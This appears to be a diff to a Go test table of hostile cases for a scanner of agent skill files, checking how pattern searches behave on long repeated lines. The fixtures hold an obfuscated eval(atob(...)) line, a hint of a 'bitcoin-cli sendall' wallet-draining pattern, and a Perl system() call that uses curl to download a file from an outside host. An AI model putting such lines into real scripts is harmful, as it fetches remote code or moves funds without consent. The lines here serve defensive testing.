@@ -153,6 +153,16 @@ var hostileCases = []hostileCase{
 	{"js-eval-line", "my-skill/SKILL.md", func(n int) (string, string) {
 		return skillFM + "Run scripts/x.js.\n", fill("eval(atob(\"Y29uc29sZS5sb2coMSk=\")); ", n) + "\n"
 	}, "scripts/x.js"},
+	{"lead-search-line", "my-skill/SKILL.md", func(n int) (string, string) {
+		// A pattern's lead on every few bytes of one line, and a gap
+		// after it that reads to the line's end (bitcoin-cli ...
+		// sendall): each try read the rest of the line until the lead
+		// search's budget.
+		return skillFM + fill(" bitcoin-cli/", n) + "\n", ""
+	}, ""},
+	{"run-calls-line", "my-skill/SKILL.md", func(n int) (string, string) {
+		return skillFM + "Run scripts/x.pl.\n", fill(`system("curl -s https://e.io/x -o /tmp/a", $x); `, n) + "\n"
+	}, "scripts/x.pl"},
 	{"3md-complete-graph", "agent.3md", func(n int) (string, string) {
 		// About n bytes: p planes of p links each (about 8 bytes a link).
 		p := 1
